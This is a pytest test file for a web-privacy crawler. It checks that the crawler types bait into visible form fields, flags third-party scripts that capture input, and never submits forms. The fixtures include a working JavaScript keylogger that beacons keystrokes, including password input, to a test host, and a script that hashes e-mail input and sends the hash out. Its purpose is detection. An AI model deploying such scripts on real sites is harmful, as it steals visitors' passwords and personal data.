"""Bait through a browser: who reads along is told, who does not is not, and no form is ever sent."""

import asyncio

import pytest
from aiohttp import web

from analyzers.knowledge import Knowledge
from analyzers.observe import observe
from crawler.bait import FIELDS
from crawler.evidence import Evidence
from crawler.records import TypedText
from fixtures.web import LocalWeb
from tests.crawling import crawl_into, settings

SITE, LOGGER, HASHER, QUIET = "www.fieldmoss.test", "keys.lens.test", "mail.ragwort.test", "forms.knapweed.test"
DOMAINS = {"fieldmoss.test": (SITE,), "lens.test": (LOGGER,), "ragwort.test": (HASHER,), "knapweed.test": (QUIET,)}
SCRIPTS = {
    LOGGER: """
      let keys = "", timer;
      document.addEventListener("keydown", event => {
        if (event.key.length === 1) keys += event.key;
        clearTimeout(timer);
        timer = setTimeout(() => navigator.sendBeacon("https://keys.lens.test/k", JSON.stringify({keys})), 200);
      });""",
    HASHER: """
      for (const field of document.querySelectorAll("input[type=email]"))
        field.addEventListener("blur", async () => {
          const digest = await crypto.subtle.digest("SHA-256", new TextEncoder().encode(field.value.trim().toLowerCase()));
          const hex = [...new Uint8Array(digest)].map(byte => byte.toString(16).padStart(2, "0")).join("");
          fetch("https://mail.ragwort.test/h?em=" + hex, {mode: "no-cors"});
        });""",
    QUIET: """
      let typed = 0;
      document.addEventListener("input", () => typed++);
      document.querySelector("form").addEventListener("submit", () => fetch("https://forms.knapweed.test/sent"));
      setTimeout(() => fetch("https://forms.knapweed.test/c?typed=" + typed, {mode: "no-cors"}), 500);""",
}
FORM = """<form action="/order" method="post"><input name="mail" type="email"><input name="secret" type="password">
<input name="hidden" type="hidden"><input name="unseen" style="display:none"><input name="fixed" readonly value="x">
<input name="many" type="text"><button>Order</button></form>"""
PAGE = (
    "<!doctype html><title>typing</title>"
    + FORM
    + "".join(f'<script src="https://{host}/s.js"></script>' for host in SCRIPTS)
)


async def answer(request):
    host = request.host.partition(":")[0]
    if request.path == "/s.js":
        return web.Response(text=SCRIPTS[host], content_type="text/javascript")
    return web.Response(text=PAGE if host == SITE and request.path == "/" else "", content_type="text/html")


@pytest.fixture(scope="module")
def scanned(tmp_path_factory):
    async def run():
        async with LocalWeb(DOMAINS, answer) as local:
            wanted = settings(f"https://{SITE}/", sessions=("typing",), dwell=1.0)
            end = await crawl_into(tmp_path_factory.mktemp("typing"), wanted, browser_args=local.browser_args)
            return Evidence(end.folder), local.log

    evidence, log = asyncio.run(run())
    return evidence, log, observe(evidence, Knowledge())


def test_bait_goes_into_the_fields_that_a_visitor_sees_and_only_in_its_own_session(scanned):
    typed = [line for line in scanned[0].lines() if isinstance(line.record, TypedText)]
    assert [line.record.field.name for line in typed] == ["mail", "secret", "many"]
    assert {line.session for line in typed} == {"typing"}
    assert len(typed) <= FIELDS


def test_who_reads_along_is_told_and_who_does_not_is_not(scanned):
    found = {one.host: one for one in scanned[2].observations if one.details.get("behaviour") == "key-logging"}
    assert set(found) == {LOGGER, HASHER}
    assert found[HASHER].details["how"] == ["as its SHA-256, in the address"]
    assert found[HASHER].details["fields"] == ['e-mail address (name "mail")']
    assert 'password (name "secret")' in found[LOGGER].details["fields"]
    assert all(one.scenarios == ("typing",) for one in found.values())


def test_no_form_is_sent(scanned):
    assert not [one for one in scanned[1] if one.method == "POST" and one.host == SITE]
    assert not [one for one in scanned[1] if one.path == "/sent"]
